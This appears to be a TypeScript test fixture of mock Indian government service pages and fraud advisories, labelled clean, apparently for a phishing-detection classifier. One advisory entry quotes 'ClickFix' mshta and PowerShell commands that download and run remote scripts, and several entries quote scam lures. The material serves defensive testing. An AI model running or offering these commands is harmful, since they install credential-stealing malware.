import { type Entry } from '../entry.js';
import { doc, logos, govHeader } from '../parts/xa-kit.js';
import { pngRoute } from '../parts/e-bin.js';

/**
 * Government portals and advisories on their own domains: income-tax e-filing login and PAN–Aadhaar link
 * (with its real fee), India Post tracking, e-challan payment, RBI/CERT-In/PIB/SEBI advisories quoting
 * attacks, cyber-crime reporting, Sanchar Saathi, myAadhaar, electricity bill payment, PM-Kisan status, EPFO
 * passbook and state police awareness pages.
 */
export const entries: Entry[] = [
{
  id: 'xa-clean-incometax-link-aadhaar-fee',
  label: 'clean',
  kind: 'government-service',
  url: 'https://eportal.incometax.gov.in/iec/foservices/pre-login/bl-link-aadhaar?src=quick-links',
  body: doc({
    title: 'Link Aadhaar | Income Tax Department',
    css: `body{margin:0;font-family:'Noto Sans',Arial;background:#f4f6f9}.c{max-width:720px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}.c input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 14px;border:1px solid #b9c3d3;border-radius:4px}.n{background:#fff8e1;border-left:4px solid #f9a825;padding:10px;font-size:14px}.b{background:#0b2e6f;color:#fff;border:0;padding:10px 26px;border-radius:4px}`,
    body: `${govHeader({ dept: 'e-Filing', deptLocal: 'आयकर विभाग', ministry: 'Income Tax Department, Government of India' })}
<div class="c"><h2>Link Aadhaar</h2><div class="n">As per section 234H, a fee of ₹1,000 is payable for linking PAN with Aadhaar after 30 June 2023. Pay the fee through <b>e-Pay Tax</b> (Minor head 500 – Other receipts) before submitting the link request. Payment is made only through the e-Pay Tax service or authorised banks – never to any individual or UPI ID.</div>
<form method="post" action="/iec/foservices/pre-login/bl-link-aadhaar/validate"><label>PAN *</label><input name="pan" maxlength="10"><label>Aadhaar Number *</label><input name="aadhaarNumber" maxlength="12"><button class="b">Validate</button></form>
<p style="font-size:13px">After validation you will be asked for your name as per Aadhaar and mobile number, and an OTP will be sent to that mobile number.</p></div>`,
  }),
},
{
  id: 'xa-clean-incometax-report-phishing-page',
  label: 'clean',
  kind: 'government-advisory',
  url: 'https://www.incometax.gov.in/iec/foportal/report-phishing',
  body: doc({
    title: 'Report Phishing | Income Tax Department',
    css: `body{margin:0;font-family:'Noto Sans',Arial;color:#222}.m{max-width:860px;margin:20px auto;padding:0 20px;line-height:1.6}.ex{border:1px dashed #999;background:#fafafa;padding:12px;font-size:14px;margin:12px 0}.ex .f{color:#777;font-size:12px}`,
    body: `${govHeader({ dept: 'Income Tax Department', deptLocal: 'आयकर विभाग', ministry: 'Government of India' })}
<div class="m"><h1>Report Phishing</h1><p>Phishing is an attempt to get your personal and financial information by pretending to be the Income Tax Department. Taxpayers have reported e-mails and SMS such as these:</p>
<div class="ex"><div class="f">From: Income Tax Department &lt;refunds@itd-gov.in&gt;</div>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of Rs 15,490. Please submit the tax refund request and allow 3-5 days in order to process it. Click here to access the form: http://efiling-refund[.]in/claim</div>
<div class="ex"><div class="f">SMS from VK-ITDEPT?</div>Dear Taxpayer, your PAN will be deactivated today. Link your PAN with Aadhaar to avoid penalty of Rs.10000: hxxp://pan-link-gov[.]co</div>
<h3>What to do</h3><ul><li>Do not reply, click on links, or open attachments (ZIP, HTML, APK) in such messages.</li><li>Do not enter your net-banking details, card numbers or PIN on any page reached from a link.</li><li>Forward the e-mail or the header details to <b>webmanager@incometax.gov.in</b> and <b>incident@cert-in.org.in</b>.</li><li>If you have lost money, call <b>1930</b> immediately.</li></ul></div>`,
  }),
},
{
  id: 'xa-clean-indiapost-track-consignment',
  label: 'clean',
  kind: 'government-service',
  url: 'https://www.indiapost.gov.in/_layouts/15/dop.portal.tracking/trackconsignment.aspx?cno=EE-lookup-hi',
  body: doc({
    title: 'Track Consignment | India Post',
    css: `body{margin:0;font-family:Arial;background:#fff}.h{display:flex;align-items:center;gap:12px;padding:10px 28px;border-bottom:4px solid #d71920}.m{max-width:700px;margin:24px auto;padding:0 20px}.b{border:1px solid #ddd;padding:20px;border-radius:4px}.b input{padding:9px;width:60%;border:1px solid #aaa}.b button{background:#d71920;color:#fff;border:0;padding:10px 20px}.n{font-size:13px;background:#fff5f5;padding:10px;margin-top:16px}`,
    body: `<div class="h">${logos.indiaPost(40)}<div><b style="color:#d71920;font-size:20px">India Post</b><div style="font-size:12px">Department of Posts, Ministry of Communications, Government of India</div></div></div>
<div class="m"><h2>Track Consignment</h2><div class="b"><form method="post" action="/_layouts/15/dop.portal.tracking/trackconsignment.aspx"><label>Consignment Number</label><br><input name="txtOrignlPgTranNo" maxlength="13" placeholder="e.g. EE123456789IN"><br><br><label>Enter the captcha</label><br><img src="/_layouts/15/dop.portal.tracking/captcha.ashx" width="120" height="36" alt="captcha"> <input name="txtCaptcha" style="width:120px"><br><br><button>Track Now</button></form></div>
<div class="n">India Post does not send SMS asking you to update your address or pay a redelivery fee through a link. Items held for incomplete address are kept at the delivery post office; contact the post office or 1800 266 6868.</div></div>`,
  }),
},
{
  id: 'xa-clean-rbi-press-release-kyc-fraud',
  label: 'clean',
  kind: 'regulator-advisory',
  url: 'https://www.rbi.org.in/Scripts/BS_PressReleaseDisplay.aspx?prid=54631',
  body: doc({
    title: 'Reserve Bank of India - Press Releases',
    css: `body{margin:0;font-family:Verdana,Arial;font-size:13px;color:#222}.h{display:flex;align-items:center;gap:12px;padding:10px 24px;background:#f6f1e1;border-bottom:2px solid #8a6d1d}.m{max-width:820px;margin:20px auto;padding:0 20px;line-height:1.7}.d{color:#777}`,
    body: `<div class="h">${logos.rbi(44)}<div><b style="font-size:18px">भारतीय रिज़र्व बैंक</b><br><b style="font-size:18px">RESERVE BANK OF INDIA</b></div></div>
<div class="m"><p class="d">Date : Feb 02, 2024</p><h2>RBI cautions against frauds in the name of KYC updation</h2>
<p>In view of continued incidents/reports of frauds being perpetrated on members of the public in the name of KYC updation, the Reserve Bank of India cautions the public against such fraudulent practices.</p>
<p>The modus operandi for such frauds typically involves customers receiving unsolicited communications including phone calls/SMS/emails, through which they are manipulated into revealing personal information, account/login details or installing unauthorised or unverified apps through links provided in the messages. Such communications often employ tactics like creating a false sense of urgency and threatening freezing/blocking/closure of the customer's account in case of failure to comply.</p>
<p>As a precautionary measure and for protection against such malicious fraudulent attempts, members of the public are advised to:</p>
<p><b>Do's</b>: In case of any KYC updation request, directly contact your bank/financial institution; obtain contact number/customer care phone number only from the official website; inform your bank immediately in case of any cyber-fraud incident.</p>
<p><b>Don'ts</b>: Do not share account login credentials, card information, PINs, passwords, OTPs with anyone; do not share KYC documents with unknown persons; do not share any data/information using unverified/unauthorised websites or applications; do not click on suspicious or unverified links received in mobile or email.</p>
<p>(Yogesh Dayal)<br>Chief General Manager</p><p>Press Release: 2023-2024/1787</p></div>`,
  }),
},
{
  id: 'xa-clean-certin-advisory-fake-captcha',
  label: 'clean',
  kind: 'security-advisory-quoting-commands',
  url: 'https://www.cert-in.org.in/s2cMainServlet?pageid=PUBVLNOTES02&VLCODE=CIAD-2025-0052',
  body: doc({
    title: 'CERT-In Advisory CIAD-2025-0052',
    css: `body{margin:0;font-family:Arial;font-size:14px;color:#222}.h{background:#0b2e6f;color:#fff;padding:12px 24px}.m{max-width:880px;margin:20px auto;padding:0 20px;line-height:1.6}pre{background:#f4f4f4;border:1px solid #ddd;padding:10px;white-space:pre-wrap;font-size:12.5px}table{border-collapse:collapse}td{border:1px solid #ccc;padding:6px 10px}`,
    body: `<div class="h"><b>CERT-In</b> · Indian Computer Emergency Response Team · Ministry of Electronics and Information Technology</div>
<div class="m"><h2>CERT-In Advisory CIAD-2025-0052</h2><table><tr><td>Original Issue Date</td><td>October 09, 2025</td></tr><tr><td>Severity Rating</td><td>HIGH</td></tr><tr><td>Component</td><td>Windows end users</td></tr></table>
<h3>Fake CAPTCHA ("ClickFix") campaigns delivering information stealers</h3><p>It has been observed that threat actors are compromising legitimate websites, including Indian job portals and result websites, to display fake CAPTCHA or "verify you are human" dialogs. The dialog copies a malicious command to the clipboard and instructs the user to press Windows + R, paste with Ctrl + V and press Enter. Commands observed include:</p>
<pre>mshta hxxps://[compromised-domain]/verify/cf.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 7741
powershell -w h -nop -c "$u='hxxps://cdn-jsdelivr[.]top/ver/rc.ps1';iex(irm $u)"
conhost.exe --headless powershell -w h -c "iex(iwr -useb hxxps://[domain]/download/v.ps1)"</pre>
<p>The second stage installs information stealers (Lumma, Vidar) that harvest browser passwords, session cookies and cryptocurrency wallets.</p>
<h3>Solution / Countermeasures</h3><ul><li>No legitimate CAPTCHA asks users to run commands. Educate users accordingly.</li><li>Restrict the Run dialog (NoRun policy) and mshta.exe via AppLocker/WDAC where not required.</li><li>Enable PowerShell Script Block Logging and monitor RunMRU registry key entries.</li><li>Block the indicators listed in the annexure at proxy/DNS.</li></ul><p>Report incidents to incident@cert-in.org.in.</p></div>`,
  }),
},
{
  id: 'xa-clean-cybercrime-gov-complaint-login',
  label: 'clean',
  kind: 'government-login',
  url: 'https://cybercrime.gov.in/Webform/Citizen_Login.aspx?ReturnUrl=%2fWebform%2fFinancialFraud.aspx',
  body: doc({
    title: 'National Cyber Crime Reporting Portal',
    css: `body{margin:0;font-family:Arial;background:#eef2f7}.bn{background:#c62828;color:#fff;text-align:center;padding:10px;font-size:18px;font-weight:bold}.c{max-width:480px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}.c input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 14px;border:1px solid #bbb}.c button{background:#0b2e6f;color:#fff;border:0;padding:10px 24px}`,
    body: `${govHeader({ dept: 'National Cyber Crime Reporting Portal', deptLocal: 'राष्ट्रीय साइबर अपराध रिपोर्टिंग पोर्टल', ministry: 'Indian Cyber Crime Coordination Centre (I4C), Ministry of Home Affairs' })}
<div class="bn">Call 1930 to report financial cyber fraud immediately</div>
<div class="c"><h3>Citizen Login – File a Complaint</h3><form method="post" action="/Webform/Citizen_Login.aspx"><label>State</label><select name="ddlState" style="width:100%;padding:9px;margin:6px 0 14px"><option>Maharashtra</option><option>Karnataka</option><option>Tamil Nadu</option><option>West Bengal</option><option>Uttar Pradesh</option></select><label>Login ID (Mobile number)</label><input name="txtLoginId" maxlength="10"><label>Captcha</label><input name="txtCaptcha"><button>Get OTP</button></form><p style="font-size:13px">You will receive an OTP on the mobile number to log in. Report suspicious websites, UPI IDs, bank accounts and phone numbers under "Report &amp; Check Suspect".</p></div>`,
  }),
},
{
  id: 'xa-clean-sancharsaathi-chakshu-report',
  label: 'clean',
  kind: 'government-service',
  url: 'https://sancharsaathi.gov.in/sfc/Home/sfc-complaint.jsp?medium=call&cat=impersonation',
  body: doc({
    title: 'Chakshu - Report Suspected Fraud Communication | Sanchar Saathi',
    css: `body{margin:0;font-family:Arial;background:#f7f9fc}.c{max-width:720px;margin:20px auto;background:#fff;padding:24px;border-radius:6px}.c select,.c input,.c textarea{width:100%;box-sizing:border-box;padding:9px;margin:5px 0 12px;border:1px solid #bbb}.c button{background:#1b5e20;color:#fff;border:0;padding:10px 22px}.i{font-size:13px;background:#e8f5e9;padding:10px}`,
    body: `${govHeader({ dept: 'Sanchar Saathi', deptLocal: 'संचार साथी', ministry: 'Department of Telecommunications, Ministry of Communications' })}
<div class="c"><h2>Chakshu – Report Suspected Fraud Communication</h2><p class="i">Report calls, SMS or WhatsApp messages received in the last 30 days that you suspect are fraudulent — e.g. a caller claiming your number will be disconnected by TRAI/DoT, impersonation of CBI/police ("digital arrest"), KYC update links, fake job or investment offers. DoT and TRAI never call to disconnect numbers. If you have already lost money, report at cybercrime.gov.in or 1930.</p>
<form method="post" action="/sfc/Home/sfc-complaint.jsp"><label>Medium</label><select name="medium"><option>Call</option><option>SMS</option><option>WhatsApp</option></select><label>Category</label><select name="category"><option>Impersonation as Government official / Police / Digital Arrest</option><option>KYC related / Bank account block</option><option>Disconnection of mobile number</option><option>Fake job / Investment / Task</option><option>Sextortion</option><option>Lottery / Gift / Reward</option></select><label>Suspected number / Sender header</label><input name="suspect"><label>Date &amp; time</label><input name="dt" type="datetime-local"><label>Message text / screenshot description</label><textarea name="msg" rows="3"></textarea><label>Your mobile number (OTP will be sent)</label><input name="mobile" maxlength="10"><button>Submit</button></form></div>`,
  }),
},
{
  id: 'xa-clean-pib-no-digital-arrest',
  label: 'clean',
  kind: 'government-advisory',
  url: 'https://pib.gov.in/PressReleasePage.aspx?PRID=2069561',
  body: doc({
    title: 'Press Release: Press Information Bureau',
    css: `body{margin:0;font-family:Arial;color:#222}.h{background:#5c1a1a;color:#fff;padding:10px 24px}.m{max-width:820px;margin:20px auto;padding:0 20px;line-height:1.7}.q{background:#f7f7f7;border-left:4px solid #5c1a1a;padding:10px 14px}`,
    body: `<div class="h"><b>Press Information Bureau</b> · Government of India · Ministry of Home Affairs</div>
<div class="m"><h2>I4C cautions citizens against "Digital Arrest" scams</h2><p>The Indian Cyber Crime Coordination Centre (I4C) has cautioned citizens against incidents of blackmail, extortion and "digital arrest" by cyber criminals impersonating officers of Police, CBI, Narcotics Department, RBI, Enforcement Directorate and other law enforcement agencies.</p>
<p>These fraudsters typically call a potential victim and inform them that the victim has sent or is the intended recipient of a parcel containing illegal goods, drugs, fake passports or any other contraband item. Sometimes they also inform that a near or dear one of the victim has been found to be involved in a crime or an accident and is in their custody. A demand for money is made to "compromise" the case.</p>
<div class="q">Victims are asked to stay on Skype or WhatsApp video call until the demands are met. The fraudsters use studios modelled on police stations and government offices and wear uniforms to appear genuine. They ask victims to transfer money to accounts for "verification" which will be "returned after investigation".</div>
<p>Citizens are advised that there is no provision of "digital arrest" under law. Government agencies do not use WhatsApp or Skype for official communication. On receipt of such calls, citizens should immediately report on helpline 1930 or www.cybercrime.gov.in.</p></div>`,
  }),
},
{
  id: 'xa-clean-myaadhaar-login-otp',
  label: 'clean',
  kind: 'government-login',
  url: 'https://myaadhaar.uidai.gov.in/login?returnUrl=%2Fservices%2Fupdate-address',
  body: doc({
    title: 'myAadhaar - Login',
    css: `body{margin:0;font-family:Roboto,Arial;background:#fffaf3}.h{display:flex;align-items:center;gap:12px;padding:10px 24px;background:#fff;border-bottom:4px solid #f57c00}.c{max-width:420px;margin:30px auto;background:#fff;padding:26px;border-radius:8px;box-shadow:0 1px 6px #0001}.c input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 14px;border:1px solid #ccc;border-radius:4px}.c button{width:100%;background:#f57c00;color:#fff;border:0;padding:12px;border-radius:4px}`,
    body: `<div class="h">${logos.emblem(30)}<div><b style="color:#b71c1c">myAadhaar</b><div style="font-size:12px">Unique Identification Authority of India</div></div></div>
<div class="c"><h3 style="margin-top:0">Login</h3><form id="lf"><label>Enter Aadhaar Number</label><input name="uid" maxlength="12" inputmode="numeric"><label>Enter Above Captcha</label><img src="/api/captcha/render-login.png" width="140" height="40" alt="captcha"><input name="captcha"><button id="so">Login With OTP</button></form><p style="font-size:12px;color:#666">OTP will be sent to the mobile number registered with Aadhaar. UIDAI never asks you to share the OTP with anyone, and biometric update requires a visit to an Aadhaar Seva Kendra.</p></div>
<script>lf.onsubmit=function(e){e.preventDefault();fetch('/api/auth/generateOtp',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({uidNumber:lf.uid.value,captchaValue:lf.captcha.value})})}</script>`,
  }),
  routes: { 'myaadhaar.uidai.gov.in/api/captcha/render-login.png': pngRoute(240, 240, 240) },
},
{
  id: 'xa-clean-mahadiscom-quick-bill-pay-marathi',
  label: 'clean',
  kind: 'utility-bill-payment',
  url: 'https://wss.mahadiscom.in/wss/wss?uiActionName=getViewPayBill&lang=mr',
  body: doc({
    title: 'वीज बिल भरा | Pay Electricity Bill - MSEDCL',
    lang: 'mr',
    css: `body{margin:0;font-family:'Noto Sans Devanagari',Arial;background:#eef4fb}.h{background:#1565c0;color:#fff;padding:12px 24px}.c{max-width:620px;margin:22px auto;background:#fff;padding:22px;border-radius:6px}.c input,.c select{width:100%;box-sizing:border-box;padding:9px;margin:5px 0 12px;border:1px solid #aab}.b{background:#ef6c00;color:#fff;border:0;padding:10px 24px}.n{font-size:13px;background:#fff3e0;padding:10px;margin-top:14px}`,
    body: `<div class="h"><b>महावितरण · Maharashtra State Electricity Distribution Co. Ltd.</b></div>
<div class="c"><h3>वीज बिल भरा (Quick Bill Payment)</h3><form method="post" action="/wss/wss?uiActionName=postViewPayBill"><label>ग्राहक क्रमांक / Consumer Number</label><input name="consumerNo" maxlength="12"><label>बिलिंग युनिट / Billing Unit</label><select name="bu"><option>4637 – Pune Rural</option><option>0051 – Bhandup Urban</option><option>4563 – Nashik Urban</option></select><label>Captcha</label><input name="captcha"><button class="b">Submit</button></form>
<p>Amount due will be displayed along with the bill date. Payment can be made through Net Banking, Debit/Credit Card, UPI or Wallet via the MSEDCL payment gateway.</p>
<div class="n">सूचना: महावितरण कधीही वैयक्तिक मोबाईल क्रमांकावरून "आज रात्री वीज पुरवठा खंडित होईल" असे SMS पाठवत नाही. अधिकृत SMS "MSEDCL" या हेडरनेच येतात. कोणतेही ॲप डाउनलोड करू नका.</div></div>`,
  }),
},
{
  id: 'xa-clean-pmkisan-beneficiary-status-hindi',
  label: 'clean',
  kind: 'government-service',
  url: 'https://pmkisan.gov.in/BeneficiaryStatus_New.aspx?lang=hi-IN',
  body: doc({
    title: 'PM-Kisan Samman Nidhi | लाभार्थी स्थिति',
    lang: 'hi',
    css: `body{margin:0;font-family:'Noto Sans Devanagari',Arial;background:#f1f8e9}.c{max-width:640px;margin:22px auto;background:#fff;padding:22px;border-radius:6px}.c input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 12px;border:1px solid #aab}.b{background:#33691e;color:#fff;border:0;padding:10px 22px}`,
    body: `${govHeader({ dept: 'PM-KISAN Samman Nidhi', deptLocal: 'प्रधानमंत्री किसान सम्मान निधि', ministry: 'कृषि एवं किसान कल्याण मंत्रालय, भारत सरकार' })}
<div class="c"><h3>लाभार्थी स्थिति जानें (Know Your Status)</h3><form method="post" action="/BeneficiaryStatus_New.aspx"><label>पंजीकरण संख्या (Registration Number)</label><input name="ctl00$ContentPlaceHolder1$txtRegNo"><a href="/KnowYour_Registration.aspx" style="font-size:13px">पंजीकरण संख्या भूल गए?</a><br><br><label>कैप्चा</label><input name="captcha"><button class="b">Get OTP</button></form>
<p style="font-size:13px">e-KYC केवल इस पोर्टल, PM-KISAN मोबाइल ऐप (Google Play Store) या CSC केंद्र पर किया जा सकता है। व्हाट्सऐप पर भेजी गई किसी भी APK फ़ाइल को इंस्टॉल न करें।</p></div>`,
  }),
},
{
  id: 'xa-clean-tn-cyber-crime-wing-task-scam-tamil',
  label: 'clean',
  kind: 'police-awareness',
  url: 'https://cybercrime.tn.gov.in/awareness/part-time-job-task-fraud',
  body: doc({
    title: 'பகுதி நேர வேலை மோசடி – விழிப்புணர்வு | தமிழ்நாடு சைபர் குற்றப் பிரிவு',
    lang: 'ta',
    css: `body{margin:0;font-family:'Noto Sans Tamil',Arial;color:#222}.h{background:#0d2a5c;color:#fff;padding:12px 24px;display:flex;align-items:center;gap:12px}.m{max-width:820px;margin:20px auto;padding:0 20px;line-height:1.8}.msg{background:#e9f5ff;border-radius:10px;padding:10px 14px;margin:10px 0;max-width:520px;font-size:15px}`,
    body: `<div class="h">${logos.shield('#c62828', 36)}<div><b>தமிழ்நாடு காவல்துறை – சைபர் குற்றப் பிரிவு</b><div style="font-size:12px">Cyber Crime Wing, Tamil Nadu Police</div></div></div>
<div class="m"><h2>பகுதி நேர வேலை / டாஸ்க் மோசடி – எச்சரிக்கை</h2><p>மோசடியாளர்கள் WhatsApp, Telegram மூலம் கீழ்க்கண்டவாறு செய்திகள் அனுப்புகிறார்கள்:</p>
<div class="msg">"வணக்கம், நான் HR பிரியா. வீட்டிலிருந்தே YouTube வீடியோக்களை LIKE செய்து தினமும் ₹3,000 சம்பாதிக்கலாம். ஆர்வம் இருந்தால் Telegram-ல் தொடர்பு கொள்ளவும்."</div>
<div class="msg">"Google Maps-ல் ஹோட்டல்களுக்கு ரிவ்யூ கொடுங்கள் – ஒவ்வொன்றுக்கும் ₹150. VIP டாஸ்க்குக்கு ₹5,000 முன்பணம் செலுத்தினால் 30% கமிஷன்."</div>
<p>முதலில் சிறிய தொகை கொடுத்து நம்பிக்கையை உருவாக்குவார்கள். பின்னர் "prepaid task", "merchant task" என்று பெரிய தொகையை செலுத்தச் சொல்லி, பணம் திரும்பப் பெற "tax" கட்டச் சொல்வார்கள்.</p>
<p><b>பணம் கட்டினால் தான் வேலை என்றால் அது மோசடி.</b> உடனடியாக 1930 என்ற எண்ணை அழைக்கவும் அல்லது www.cybercrime.gov.in-ல் புகார் செய்யவும்.</p></div>`,
  }),
},
];
